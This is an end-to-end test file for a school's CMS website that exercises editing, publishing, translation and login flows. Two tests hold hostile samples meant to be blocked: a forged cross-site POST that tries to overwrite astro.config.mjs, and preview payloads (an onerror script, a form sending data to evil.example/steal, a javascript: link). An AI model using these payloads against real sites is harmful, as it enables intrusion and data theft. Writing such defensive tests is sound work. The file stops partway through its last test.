/**
 * The CMS in Debian's Chromium, driven as a teacher would, against the local Git backend exactly as
 * `npm start` runs it (admin/local/start.mjs: astro dev, decap-server and the guard in front of it), on
 * a temporary copy of this repository: log in, write a class update with a phone photo, its
 * description and photo consent, save it as a draft, take it through review to published, then
 * check the commit, the file, and the rebuilt site's class page and RSS feed. The same for an Urdu
 * translation of a policy, named after the English original chosen in the form, which the rebuilt
 * site publishes at /ur/… with the English page linking to it. Also: what the editor cannot save,
 * shown at the field (a mistyped year, an impossible date, an end before its start); the date box,
 * typed the UK way or picked from the calendar, and an event's "All day" switch; photos made
 * smaller, never larger; the class updates list opening on the teacher's class; the school's whole
 * name on the login page; the guard against committing someone's unfinished work, another site's
 * page that tries to save through the local backend, a preview that runs nothing in a body's HTML,
 * no editor inside another site's frame, and the login of each production Git host.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import sharp from 'sharp';
import { parse } from 'yaml';
import { XMLParser } from 'fast-xml-parser';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { adminContentSecurityPolicy } from '../../src/lib/security/csp';
import { cmsBackend } from '../../admin/config/git-host';
import { checkContent } from '../../src/lib/content/check';
import { parseMarkdownFile } from '../../src/lib/content/frontmatter';
import { plainFilesUnder } from '../../src/lib/content/files';
import { classUpdateSchema } from '../../src/schemas/class-update';
import { launchBrowser } from '../helpers/browser';
import { displayDate } from '../../admin/dates';
import { gitIn } from '../helpers/local';
import { serve } from '../helpers/serve';
import { mainOf, textOf } from '../helpers/build';
import { cleanEnv, startSite, type StartedSite } from '../helpers/start';

const ROOT = resolve('.');
const PHOTO = 'content/uploads/classes/birch/2026-11-13-science-week.jpg'; // 4000 × 3000, 5 MB, with EXIF
const TITLE = 'Pond dipping and minibeasts';
const SLUG = 'pond-dipping-and-minibeasts';
const ALT = 'Children kneeling by the pond with nets, looking into white trays';
const SMALL_ALT = 'A pond net resting on the grass';
/** An Urdu translation of the uniform policy, which the demo has in English only. */
const TRANSLATION = {
  lang: 'ur',
  language: 'اردو',
  original: 'uniform',
  title: 'یونیفارم',
  summary: 'بچے اسکول اور پی ای کے لیے کیا پہنتے ہیں، اسے کہاں سے خریدیں، اور ہم اخراجات کیسے کم رکھتے ہیں۔',
  translated: '2026-11-20',
  body: 'ہمارا یونیفارم بچوں کو اسکول کا حصہ محسوس کرنے میں مدد دیتا ہے۔',
} as const;
const translationPath = `content/policies/${TRANSLATION.lang}/${TRANSLATION.original}.md`;

let started: StartedSite;
let repo: string;
let site: string;
let backendUrl: string;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let today: string;
/** A 1600 × 1200 photo with camera data, narrower than the editor's limit. */
let smallPhoto: string;
const violations: string[] = [];

const git = (...args: string[]) => gitIn(repo, ...args);

/**
 * The demo school's own date (its settings' demo_date): under `npm start` the demo is shown as on
 * that day, and the editor dates a new entry that day, so what a teacher publishes appears at once.
 */
const DEMO_DATE: string = parse(readFileSync('content/settings/school.yaml', 'utf8')).demo_date;

async function login(p: Page) {
  await p.goto(`${site}/admin/`);
  await p.getByRole('button', { name: 'Login', exact: true }).click();
  await p
    .getByRole('link', { name: /Class updates/ })
    .first()
    .waitFor();
}

const pagePath = () => `content/class-updates/oak/${today}-${SLUG}.md`;

beforeAll(async () => {
  today = DEMO_DATE;
  smallPhoto = join(mkdtempSync(join(tmpdir(), 'school-photo-')), 'pond-net.jpg');
  await sharp({ create: { width: 1600, height: 1200, channels: 3, background: { r: 60, g: 130, b: 90 } } })
    .withExif({ IFD0: { Make: 'Phone', Model: 'Camera', Copyright: 'Exif test' } })
    .jpeg({ quality: 90 })
    .toFile(smallPhoto);
  started = await startSite();
  ({ repo, url: site, backendUrl } = started);

  browser = await launchBrowser();
  context = await browser.newContext({ locale: 'en-GB', timezoneId: 'Europe/London', viewport: { width: 1280, height: 900 } });
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      (window as any).__violations ??= [];
      (window as any).__violations.push(`${e.violatedDirective} ${e.blockedURI}`);
    });
  });
  // The first visit makes Vite prepare the CMS's modules and reload; wait for that before testing.
  const warm = await context.newPage();
  await warm.goto(`${site}/admin/`, { timeout: 90_000 });
  await warm.getByRole('button', { name: 'Login', exact: true }).waitFor({ timeout: 90_000 });
  await warm.close();
  page = await context.newPage();
  page.on('dialog', (d) => void d.accept());
}, 240_000);

afterAll(async () => {
  await context?.close();
  await browser?.close();
  started?.remove();
  if (smallPhoto) rmSync(join(smallPhoto, '..'), { recursive: true, force: true });
});

describe('editing with the CMS', () => {
  it('opens with the school’s name and colours, its own Content-Security-Policy, and out of search engines', async () => {
    await page.goto(`${site}/admin/`);
    expect(await page.title()).toBe('Editor – Hazelbrook Primary School');
    expect(await page.locator('meta[name="robots"]').getAttribute('content')).toBe('noindex, nofollow');
    const csp = (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'))!;
    expect(csp).toContain("script-src 'self' 'unsafe-eval'");
    expect(csp).toContain(`connect-src 'self' blob: ${new URL(backendUrl).origin}`);
    const logo = await (await fetch(`${site}/admin/logo.svg`)).text();
    expect(logo).toContain('Hazelbrook Primary School');
    expect(logo).toContain('#1f5a4a');
    await login(page);
  });

  it('shows the school’s whole name on the login page, on a phone and a computer, whatever font the computer has', async () => {
    for (const width of [375, 1280]) {
      // A context of its own: logged out.
      const fresh = await browser.newContext({ viewport: { width, height: 800 } });
      const p = await fresh.newPage();
      await p.goto(`${site}/admin/`);
      await p.getByRole('button', { name: 'Login', exact: true }).waitFor();
      const img = p.locator('img[src="/admin/logo.svg"]');
      const box = (await img.boundingBox())!;
      expect(box.x, `${width} px`).toBeGreaterThanOrEqual(0);
      expect(box.x + box.width, `${width} px`).toBeLessThanOrEqual(width);
      // Drawn whole: scaled, never cropped.
      const natural = await img.evaluate((i: HTMLImageElement) => i.naturalWidth / i.naturalHeight);
      expect(Math.abs(box.width / box.height - natural), `${width} px`).toBeLessThan(0.05);
      await fresh.close();
    }
    // The name fits inside the logo in each font a computer may draw it with: DejaVu Sans, the
    // default on many Linux computers, is wider than most and once ran past the edge.
    const p = await context.newPage();
    await p.goto(`${site}/admin/logo.svg`);
    const overflow = await p.evaluate(() => {
      const svg = document.querySelector('svg')!;
      const name = [...svg.querySelectorAll('text')].at(-1)!;
      const stack = name.getAttribute('font-family')!;
      return ['DejaVu Sans', 'Liberation Sans', 'Noto Sans', stack].map((font) => {
        name.setAttribute('font-family', font);
        const b = name.getBBox();
        return { font, right: Math.round(b.x + b.width), edge: svg.viewBox.baseVal.width };
      });
    });
    for (const { font, right, edge } of overflow) expect(right, font).toBeLessThanOrEqual(edge);
    await p.close();
  });

  it('will not save an update with a photo but no description, or without photo consent', async () => {
    await page.goto(`${site}/admin/#/collections/classUpdates/new`);
    await page.getByLabel('Title', { exact: true }).fill(TITLE);
    await page.getByRole('combobox', { name: 'Class' }).fill('Oak');
    await page.getByRole('option', { name: 'Oak Class' }).click();
    // A new update is dated today (the demo's own date), shown the UK way and in words.
    const date = page.getByLabel('Date', { exact: true });
    const dateId = (await date.getAttribute('id'))!;
    const words = page.locator(`[id="${dateId}-words"]`);
    expect(await date.inputValue()).toBe(displayDate(today));
    expect(await words.textContent()).toBe('Monday 23 November 2026');
    // A mistyped year is refused at the field as soon as the box is left.
    await date.fill('06/12/1906');
    await page.getByLabel('Written by', { exact: true }).click();
    await page.getByText('Date: Thursday 6 December 1906 is too early: check the year').waitFor();
    // Typed the UK way: day first.
    await date.fill('2/11/2026');
    await page.getByLabel('Written by', { exact: true }).click();
    expect(await words.textContent()).toBe('Monday 2 November 2026');
    expect(await page.getByText('is too early').count()).toBe(0);
    // Or picked from the calendar (the phone's own picker sets the same box).
    await page.locator(`input[data-picker-for="${dateId}"]`).fill(today);
    await expect.poll(() => date.inputValue()).toBe(displayDate(today));
    // Needed when there are photos, so not labelled "optional".
    expect(await page.locator('label', { hasText: 'Photo consent checked' }).textContent()).not.toContain('optional');
    await page.getByLabel('Written by', { exact: true }).fill('Mrs Okafor');
    await page.getByLabel('Summary', { exact: true }).fill('Oak Class went pond dipping and sorted the minibeasts they found into groups.');
    await page.locator('[role=textbox][contenteditable=true]').click();
    await page.keyboard.type('We spent the afternoon at the school pond.');

    await page.getByRole('button', { name: /Add photo/ }).click();
    await page.getByRole('button', { name: 'Choose an image' }).click();
    await page.locator('input[type=file]').setInputFiles(join(repo, PHOTO));
    await page.getByRole('button', { name: 'Choose selected' }).click();
    // The thumbnail comes through the CMS, not from the site, which never publishes originals.
    await expect.poll(() => page.locator('img[role=presentation]').first().getAttribute('src')).toMatch(/^blob:/);

    // A photo narrower than the limit is kept at its own size, never enlarged.
    await page.getByRole('button', { name: /Add photo/ }).click();
    await page.getByRole('button', { name: 'Choose an image' }).click();
    await page.locator('input[type=file]').setInputFiles(smallPhoto);
    await page.getByRole('button', { name: 'Choose selected' }).click();
    await expect.poll(() => page.locator('img[role=presentation]').count()).toBe(2);

    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByText('Description (alt text) is needed.').first().waitFor();
    await page.getByLabel('Description (alt text)', { exact: true }).first().fill(ALT);
    await page.getByLabel('Description (alt text)', { exact: true }).nth(1).fill(SMALL_ALT);

    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByText('Photo consent checked: switch this on to confirm every child in the photos has photo consent, or remove the photos.').waitFor();
    expect(git('branch', '--list', 'cms/*')).toBe('');
  });

  it('saves it as a draft on a branch of its own, not on the site', async () => {
    await page.getByRole('switch', { name: /Photo consent checked/ }).click();
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByRole('button', { name: 'Status: Draft' }).waitFor();
    expect(git('branch', '--list', 'cms/*')).toBe(`cms/classUpdates/oak/${today}-${SLUG}`);
    // The site is built from main, which does not have it; the working copy never left main.
    expect(git('ls-tree', '-r', '--name-only', 'main', 'content/class-updates/oak/')).not.toContain(SLUG);
    expect(git('--no-optional-locks', 'status', '--porcelain')).toBe('');
    expect(existsSync(join(repo, pagePath()))).toBe(false);
    const classPage = await (await fetch(`${site}/classes/oak/`)).text();
    expect(textOf(mainOf(classPage))).toContain('Autumn leaf hunt');
    expect(classPage).not.toContain(TITLE);
  });

  it('publishes it through review: one commit on main with the photo, shrunk and without camera data', async () => {
    await page.getByRole('button', { name: 'Status: Draft' }).click();
    await page.getByRole('menuitem', { name: 'In review' }).click();
    await page.getByRole('button', { name: 'Status: In review' }).click();
    await page.getByRole('menuitem', { name: 'Ready' }).click();
    await page.getByRole('button', { name: 'Status: Ready' }).waitFor();
    await page.getByRole('button', { name: 'Publish', exact: true }).click();
    await page.getByRole('menuitem', { name: 'Publish now' }).click();
    await page.getByText('Entry published').waitFor();

    expect(git('branch', '--list', 'cms/*')).toBe('');
    expect(git('--no-optional-locks', 'status', '--porcelain')).toBe('');
    // One commit, by the editor, on top of the site as it was.
    expect(git('log', '--format=%an|%s', 'main').split('\n')).toEqual([
      `Mrs Okafor|Create Class update “oak/${today}-${SLUG}”`,
      'Mrs Okafor|The school website',
    ]);
    const files = git('diff', '--name-only', 'HEAD~1', 'HEAD').split('\n').sort();
    expect(files).toEqual(
      [pagePath(), `content/uploads/classes/oak/${today}/2026-11-13-science-week.jpg`, `content/uploads/classes/oak/${today}/pond-net.jpg`].sort(),
    );

    const { data, body } = parseMarkdownFile(readFileSync(join(repo, pagePath()), 'utf8'));
    expect(data).toEqual({
      title: TITLE,
      class: 'oak',
      date: today,
      author: 'Mrs Okafor',
      summary: 'Oak Class went pond dipping and sorted the minibeasts they found into groups.',
      images: [
        { src: `/uploads/classes/oak/${today}/2026-11-13-science-week.jpg`, alt: ALT },
        { src: `/uploads/classes/oak/${today}/pond-net.jpg`, alt: SMALL_ALT },
      ],
      photo_consent: true,
      draft: false,
    });
    expect(classUpdateSchema.safeParse(data).success).toBe(true);
    expect(body.trim()).toBe('We spent the afternoon at the school pond.');

    const photo = readFileSync(join(repo, `content/uploads/classes/oak/${today}/2026-11-13-science-week.jpg`));
    expect(photo.length).toBeLessThan(1_000_000);
    expect(photo.includes(Buffer.from('Exif'))).toBe(false);
    expect(jpegSize(photo)).toEqual({ width: 2000, height: 1500 });
    // Smaller than the limit: the same size as taken (Decap's own setting made it 2000 × 1500), and no camera data either.
    const small = readFileSync(join(repo, `content/uploads/classes/oak/${today}/pond-net.jpg`));
    expect(jpegSize(small)).toEqual({ width: 1600, height: 1200 });
    expect(small.includes(Buffer.from('Exif'))).toBe(false);

    // The development server shows it as soon as it is published.
    await expect.poll(async () => (await (await fetch(`${site}/classes/oak/`)).text()).includes(TITLE), { timeout: 30_000 }).toBe(true);
  });

  it('opens the class updates list on the teacher’s own class, with the class in each row', async () => {
    // The editor remembers the class of the update saved on this computer; opened again, its list starts there.
    const p = await context.newPage();
    await p.goto(`${site}/admin/#/collections/classUpdates`);
    const rows = p.locator('a[href*="#/collections/classUpdates/entries/"]');
    await p.getByRole('link', { name: new RegExp(TITLE) }).waitFor();
    await expect.poll(async () => new Set((await rows.allTextContents()).map((t) => / · ([A-Z-]+) · /.exec(t)?.[1]))).toEqual(new Set(['OAK']));
    // It is the list's own filter: turned off, every class's updates are there, each row naming its class.
    await p.getByRole('button', { name: 'Show only' }).first().click();
    await p.getByRole('menuitem', { name: 'Oak Class' }).click();
    await expect.poll(async () => new Set((await rows.allTextContents()).map((t) => / · ([A-Z-]+) · /.exec(t)?.[1])).size).toBeGreaterThan(3);
    await p.close();
  });

  it('keeps uncommitted work out of its commits: drafts leave it alone, direct commits wait for it', async () => {
    const head = git('rev-parse', 'HEAD');
    writeFileSync(join(repo, 'notes-for-later.txt'), 'not for the website');
    // A change to the published update is a new draft: saved beside the working copy, not in it.
    await page.goto(`${site}/admin/#/collections/classUpdates/entries/oak/${today}-${SLUG}`);
    await page.getByLabel('Summary', { exact: true }).fill('Oak Class went pond dipping and sorted the minibeasts into groups.');
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByRole('button', { name: 'Status: Draft' }).waitFor();
    expect(git('diff', '--name-only', 'main', `cms/classUpdates/oak/${today}-${SLUG}`)).toBe(pagePath());
    expect(git('--no-optional-locks', 'status', '--porcelain')).toBe('?? notes-for-later.txt');
    // What decap-server would commit with `git add .` (here, an upload from the media page) waits.
    const upload = await fetch(backendUrl, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', Origin: site },
      body: JSON.stringify({
        action: 'persistMedia',
        params: {
          branch: 'main',
          asset: { path: 'content/uploads/note.png', content: 'iVBORw0KGgo=', encoding: 'base64' },
          options: { commitMessage: 'Upload “note.png”' },
        },
      }),
    });
    expect(upload.status).toBe(409);
    expect((await upload.json()).error).toContain('this copy of the website has changes that are not committed (notes-for-later.txt)');
    expect(git('rev-parse', 'HEAD')).toBe(head);
    expect(existsSync(join(repo, 'content/uploads/note.png'))).toBe(false);
    unlinkSync(join(repo, 'notes-for-later.txt'));
  });

  it('creates a translation of an English policy, named after the original chosen in the form, and publishes it', async () => {
    const { lang, language, original } = TRANSLATION;
    expect(existsSync(join(repo, translationPath))).toBe(false);
    // As the office would: the language's list of policy translations, then a new one.
    await page.goto(`${site}/admin/#/`);
    await page.getByRole('link', { name: `Policies in ${language}`, exact: true }).click();
    await page.getByRole('heading', { name: `Policies in ${language}` }).waitFor();
    await page.getByRole('link', { name: `Create entry of type Policy in ${language}` }).click();
    await page.getByRole('combobox', { name: 'Translation of' }).fill('Uniform');
    await page.getByRole('option', { name: 'Uniform', exact: true }).click();
    await page.getByLabel('Title', { exact: true }).fill(TRANSLATION.title);
    await page.getByLabel('Summary', { exact: true }).fill(TRANSLATION.summary);
    const translated = page.getByLabel('Translated or checked on', { exact: true });
    expect(await translated.inputValue()).toBe(displayDate(today));
    // The files' own way of writing a date is understood too.
    await translated.fill(TRANSLATION.translated);
    await page.locator('[role=textbox][contenteditable=true]').click();
    await page.keyboard.type(TRANSLATION.body);

    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByRole('button', { name: 'Status: Draft' }).waitFor();
    // The draft's branch, and so the file, is named after the original, not the (Urdu) title.
    expect(git('branch', '--list', `cms/policies__${lang}/*`)).toBe(`cms/policies__${lang}/${original}`);
    expect(git('ls-tree', '-r', '--name-only', 'main', `content/policies/${lang}/`)).not.toContain(`${original}.md`);

    await page.getByRole('button', { name: 'Status: Draft' }).click();
    await page.getByRole('menuitem', { name: 'In review' }).click();
    await page.getByRole('button', { name: 'Status: In review' }).click();
    await page.getByRole('menuitem', { name: 'Ready' }).click();
    await page.getByRole('button', { name: 'Status: Ready' }).waitFor();
    await page.getByRole('button', { name: 'Publish', exact: true }).click();
    await page.getByRole('menuitem', { name: 'Publish now' }).click();
    await page.getByText('Entry published').waitFor();

    expect(git('branch', '--list', `cms/policies__${lang}/*`)).toBe('');
    expect(git('--no-optional-locks', 'status', '--porcelain')).toBe('');
    expect(git('log', '-1', '--format=%an|%s', 'main')).toBe(`Mrs Okafor|Create Policy in ${language} “${original}”`);
    expect(git('diff', '--name-only', 'HEAD~1', 'HEAD')).toBe(translationPath);

    const text = readFileSync(join(repo, translationPath), 'utf8');
    const { data, body } = parseMarkdownFile(text);
    // Only what is translated, and the original it translates (the empty "Translated by" is left out).
    expect(data).toEqual({ title: TRANSLATION.title, summary: TRANSLATION.summary, translated: TRANSLATION.translated, original, draft: false });
    expect(text).toMatch(new RegExp(`^original: ${original}$`, 'm'));
    expect(body.trim()).toBe(TRANSLATION.body);
    // The build's own check of the whole content folder finds nothing wrong with it.
    const check = checkContent(join(repo, 'content'));
    expect(check.problems.filter((p) => p.file.endsWith(`policies/${lang}/${original}.md`))).toEqual([]);
  });

  it('takes an event’s times typed the UK way or picked from the calendar, and shows at the field what the build would refuse', async () => {
    const p = await context.newPage();
    p.on('dialog', (d) => void d.accept());
    // Decap's words for a blog, reworded for a school.
    await p.goto(`${site}/admin/#/workflow`);
    await p.getByText('Write something new').first().waitFor();
    await p.goto(`${site}/admin/#/collections/events/new`);
    await p.getByLabel('Title', { exact: true }).fill('Family science evening');
    await p.getByRole('combobox', { name: 'Kind of event' }).click();
    await p.getByRole('option', { name: 'Workshop', exact: true }).click();
    await p.getByLabel('Summary', { exact: true }).fill('Families try experiments together in the hall.');
    const starts = p.getByLabel('Starts', { exact: true });
    const ends = p.getByLabel(/^Ends/);
    const wordsOf = async (box: typeof starts) => p.locator(`[id="${await box.getAttribute('id')}-words"]`).textContent();
    await starts.fill('12/03/2027 18:00');
    expect(await wordsOf(starts)).toBe('Friday 12 March 2027, 6pm');
    // Picked from the calendar: an hour before the start.
    await p.locator(`input[data-picker-for="${await ends.getAttribute('id')}"]`).fill('2027-03-12T17:00');
    await expect.poll(() => ends.inputValue()).toBe('12/03/2027 17:00');
    await p.getByRole('button', { name: 'Save', exact: true }).click();
    // At the field, not in a message that disappears.
    const message = 'Ends: “12/03/2027 17:00” is before the start (“12/03/2027 18:00”). The end must be the same as or after the start.';
    await p.getByText(message).waitFor();
    const atEnds = await p.evaluate(
      ([text, endsId, startsId]) => {
        let node = [...document.querySelectorAll('body *')].find((e) => e.children.length === 0 && e.textContent === text)?.parentElement;
        while (node && !node.querySelector(`[id="${endsId}"]`)) node = node.parentElement;
        return Boolean(node && !node.querySelector(`[id="${startsId}"]`));
      },
      [message, (await ends.getAttribute('id'))!, (await starts.getAttribute('id'))!],
    );
    expect(atEnds).toBe(true);
    await p.getByText('Not saved yet: please look at the red messages in the form.').waitFor();
    expect(git('branch', '--list', 'cms/events/*')).toBe('');
    // An impossible date, as soon as the box is left.
    await ends.fill('31/02/2027 19:30');
    await starts.click();
    await p.getByText('Ends: “31/02/2027 19:30” is not a real date').waitFor();
    await ends.fill('12/03/2027 7:30pm');
    await starts.click();
    expect(await wordsOf(ends)).toBe('Friday 12 March 2027, 7:30pm');
    expect(await p.getByText('is not a real date').count()).toBe(0);
    // The preview says it in words, as the event's page does: never "workshop" or 2027-03-12T18:00.
    const preview = p.frameLocator('#preview-pane');
    await preview.getByText('Friday 12 March 2027, 6pm to 7:30pm').waitFor();
    expect(await preview.locator('.meta').first().textContent()).toBe('Workshop');
    expect(await preview.locator('body').textContent()).not.toContain('2027-03-12');

    await p.getByRole('button', { name: 'Save', exact: true }).click();
    await p.getByRole('button', { name: 'Status: Draft' }).waitFor();
    const saved = () => parseMarkdownFile(git('show', 'cms/events/family-science-evening:content/events/family-science-evening.md')).data;
    // School time, as written, with no offset.
    expect(saved()).toMatchObject({ start: '2027-03-12T18:00', end: '2027-03-12T19:30' });

    // All day: the time goes.
    await p.getByRole('checkbox', { name: 'All day' }).first().check();
    await p.getByRole('checkbox', { name: 'All day' }).nth(1).check();
    expect(await starts.inputValue()).toBe('12/03/2027');
    await p.getByRole('button', { name: 'Save', exact: true }).click();
    await expect.poll(() => saved().start).toBe('2027-03-12');
    expect(saved().end).toBe('2027-03-12');
    await p.close();
  });

  it('cannot be driven by another site’s page open in the same browser: its forged draft is refused', async () => {
    const head = git('rev-parse', 'HEAD');
    const drafts = git('branch', '--list', 'cms/*');
    const attacker = await attackerSite('<!doctype html><title>Free worksheets</title><p>Free worksheets</p>');
    const evil = await context.newPage();
    await evil.goto(attacker.url);
    const forged = {
      action: 'persistEntry',
      params: {
        branch: 'main',
        dataFiles: [{ slug: '2026-11-30-forged', path: 'content/newsletters/2026-11-30-forged.md', raw: '---\ntitle: Forged\n---\n' }],
        assets: [{ path: 'astro.config.mjs', content: Buffer.from('throw new Error("attacker")').toString('base64'), encoding: 'base64' }],
        options: { collectionName: 'newsletters', commitMessage: 'Create Newsletter', useWorkflow: true, status: 'draft' },
      },
    };
    // As the attack was made: a text/plain body needs no permission, and no-cors hides the answer.
    await evil.evaluate(async ({ url, body }) => void (await fetch(url, { method: 'POST', mode: 'no-cors', body })), {
      url: backendUrl,
      body: JSON.stringify(forged),
    });
    await evil.close();
    await attacker.close();
    expect(git('branch', '--list', 'cms/*')).toBe(drafts);
    expect(git('log', '--all', '--format=%s %H', '--', 'astro.config.mjs', 'content/newsletters/2026-11-30-forged.md').split('\n')).toHaveLength(1);
    expect(git('rev-parse', 'HEAD')).toBe(head);
    expect(started.log()).toContain(`it came from a page at ${attacker.url.replace(/\/$/, '')}, not from the editor`);
  });

  it('previews a body’s HTML without running it: no event handler, form or javascript: link', async () => {
    const p = await context.newPage();
    p.on('dialog', (d) => void d.accept());
    await p.goto(`${site}/admin/#/collections/newsletters/new`);
    // Decap's mode switch has no name of its own: it sits between the words "Rich Text" and "Markdown".
    const markdownMode = p.locator('div:has(> span:text-is("Markdown")) > [role=switch]');
    await markdownMode.waitFor();
    await markdownMode.click();
    await p.locator('[role=textbox][contenteditable=true]').click();
    for (const line of [
      'Hostile preview check',
      '<img src="x" onerror="window.__previewRan = \'img\'; parent.__previewRan = \'img\'">',
      '<form action="https://evil.example/steal"><input name="q" value="secret"><button>Send</button></form>',
      "[Read more](javascript:parent.__previewRan='link')",
    ]) {
      await p.keyboard.insertText(line);
      await p.keyboard.press('Enter');
      await p.keyboard.press('Enter');
    }
    const preview = p.frameLocator('#preview-pane');
    await preview.getByText('Hostile preview check').waitFor();
    await preview.getByText('Read more').waitFor();
    expect(await preview.locator('[onerror]').count()).toBe(0);
    expect(await preview.locator('form, input, button').count()).toBe(0);
    expect(await preview.locator('[action*="evil.example"]').count()).toBe(0);
    expect(await preview.locator('a[href]').evaluateAll((links) => links.map((a) => a.getAttribute('href')))).not.toContainEqual(
      expect.stringMatching(/^\s*javascript:/i),
    );
    await preview.getByText('Read more').click();
    const frame = (await p.locator('#preview-pane').elementHandle())!.contentFrame();
    expect(await (await frame)!.evaluate(() => (window as any).__previewRan)).toBeUndefined();
    expect(await p.evaluate(() => (window as any).__previewRan)).toBeUndefined();
    await p.close();
  });

  it('caused no Content-Security-Policy violations but the development toolbar’s', async () => {
    const seen = (await page.evaluate(() => (window as any).__violations ?? [])) as string[];
    violations.push(...seen.filter((v) => v !== 'script-src-elem inline'));
    expect(violations).toEqual([]);
  });
});

describe('logging in to a real Git host, as configured by environment variables', () => {
  /** Opens /admin/ with another host's configuration in place of the local one, as a build would have it. */
  async function adminFor(env: Record<string, string>) {
    const b = cmsBackend(env, false);
    expect(b.problems).toEqual([]);
    const p = await context.newPage();
    await p.route(`${site}/admin/`, async (route) => {
      const response = await route.fetch();
      let html = await response.text();
      const json = /<script type="application\/json" id="cms-config">([\s\S]*?)<\/script>/.exec(html)![1]!;
      const config = { ...JSON.parse(json), backend: b.backend, publish_mode: b.publish_mode };
      delete config.local_backend;
      html = html.replace(json, JSON.stringify(config).replace(/</g, '\\u003c'));
      html = html.replace(/(http-equiv="Content-Security-Policy" content=")[^"]*/, `$1${adminContentSecurityPolicy(b).replace(/'/g, '&#39;')}`);
      await route.fulfill({ response, body: html });
    });
    await p.goto(`${site}/admin/`);
    return p;
  }

  it('GitLab: PKCE, straight to the school’s GitLab with a code challenge', async () => {
    const p = await adminFor({ CMS_BACKEND: 'gitlab', CMS_REPO: 'hazelbrook/website', CMS_APP_ID: 'app-123', CMS_BASE_URL: 'https://git.hazelbrook.example' });
    let authorize: URL | undefined;
    await p.route('https://git.hazelbrook.example/**', (route) => {
      authorize = new URL(route.request().url());
      return route.fulfill({ contentType: 'text/html', body: '<title>GitLab</title>' });
    });
    await p.getByRole('button', { name: 'Login with GitLab' }).click();
    await expect.poll(() => authorize?.pathname).toBe('/oauth/authorize');
    expect(Object.fromEntries(authorize!.searchParams)).toMatchObject({
      client_id: 'app-123',
      response_type: 'code',
      code_challenge_method: 'S256',
      redirect_uri: `${site}/admin/`,
      scope: 'api',
    });
    expect(authorize!.searchParams.get('code_challenge')).toMatch(/^[\w-]{43}$/);
    await p.close();
  });

  it('GitHub: through the school’s own OAuth provider, in a pop-up', async () => {
    const p = await adminFor({
      CMS_BACKEND: 'github',
      CMS_REPO: 'hazelbrook/website',
      CMS_BASE_URL: 'https://cms-auth.hazelbrook.example',
      CMS_SITE_DOMAIN: 'www.hazelbrook.example',
    });
    await context.route('https://cms-auth.hazelbrook.example/**', (route) => route.fulfill({ contentType: 'text/html', body: '<title>Log in</title>' }));
    const popup = context.waitForEvent('page');
    await p.getByRole('button', { name: 'Login with GitHub' }).click();
    const auth = new URL((await popup).url());
    expect(`${auth.origin}${auth.pathname}`).toBe('https://cms-auth.hazelbrook.example/auth');
    expect(Object.fromEntries(auth.searchParams)).toMatchObject({ provider: 'github', site_id: 'www.hazelbrook.example', scope: 'repo' });
    await context.unroute('https://cms-auth.hazelbrook.example/**');
    await p.close();
  });

  it('Gitea: PKCE with the school’s Gitea server', async () => {
    const p = await adminFor({
      CMS_BACKEND: 'gitea',
      CMS_REPO: 'hazelbrook/website',
      CMS_APP_ID: 'gitea-app',
      CMS_BASE_URL: 'https://gitea.hazelbrook.example',
    });
    let authorize: URL | undefined;
    await p.route('https://gitea.hazelbrook.example/**', (route) => {
      authorize = new URL(route.request().url());
      return route.fulfill({ contentType: 'text/html', body: '<title>Gitea</title>' });
    });
    await p.getByRole('button', { name: 'Login with Gitea' }).click();
    await expect.poll(() => authorize?.pathname).toBe('/login/oauth/authorize');
    expect(Object.fromEntries(authorize!.searchParams)).toMatchObject({ client_id: 'gitea-app', code_challenge_method: 'S256' });
    await p.close();
  });
});

describe('the site rebuilt for a school on GitLab', () => {
  let out: string;
  let build: ReturnType<typeof spawnSync>;
  const gitlab = { CMS_BACKEND: 'gitlab', CMS_REPO: 'hazelbrook/website', CMS_APP_ID: 'app-123', CMS_BASE_URL: 'https://git.hazelbrook.example' };

  beforeAll(() => {
    // Free the machine's two cores for the build.
    started.stop();
    out = mkdtempSync(join(tmpdir(), 'school-cms-dist-'));
    // Resized photos are kept between runs (they depend only on the photos); the content store is not.
    const cache = join(ROOT, 'node_modules/.astro-tests/cms-e2e');
    rmSync(join(cache, 'data-store.json'), { force: true });
    build = spawnSync(process.execPath, ['node_modules/astro/bin/astro.mjs', 'build', '--silent'], {
      cwd: repo,
      encoding: 'utf8',
      env: { ...cleanEnv(), ...gitlab, NODE_ENV: 'production', SITE_NOW: today, SITE_OUT_DIR: out, SITE_CACHE_DIR: cache, ASTRO_TELEMETRY_DISABLED: '1' },
      maxBuffer: 64 * 1024 * 1024,
    });
  }, 300_000);
  afterAll(() => {
    if (out) rmSync(out, { recursive: true, force: true });
  });

  it('has the published update on the class page, on its own page with the photo described, and in the class’s RSS feed', () => {
    expect(build.status, `${build.stdout}\n${build.stderr}`).toBe(0);
    const classPage = readFileSync(join(out, 'classes/oak/index.html'), 'utf8');
    expect(textOf(mainOf(classPage))).toContain(TITLE);
    expect(classPage).toContain(`href="/classes/oak/${today}-${SLUG}/"`);

    const update = readFileSync(join(out, `classes/oak/${today}-${SLUG}/index.html`), 'utf8');
    expect(update).toContain(`alt="${ALT}"`);
    // Parents get resized copies only; the upload itself is not published (only documents are, such as
    // the prospectus or a vacancy's application pack).
    expect(plainFilesUnder(join(out, 'uploads')).filter((f) => /\.(jpe?g|png|webp|avif|gif)$/i.test(f))).toEqual([]);
    expect(existsSync(join(out, `uploads/classes/oak/${today}`))).toBe(false);

    const feed = new XMLParser().parse(readFileSync(join(out, 'classes/oak/rss.xml'), 'utf8'));
    const items = [feed.rss.channel.item].flat() as { title: string; link: string }[];
    expect(items[0]).toMatchObject({ title: `Oak Class: ${TITLE}`, link: `https://www.hazelbrook.sch.uk/classes/oak/${today}-${SLUG}/` });
  });

  it('has the translation at its address in its language, and the English policy links to it', () => {
    expect(build.status, `${build.stdout}\n${build.stderr}`).toBe(0);
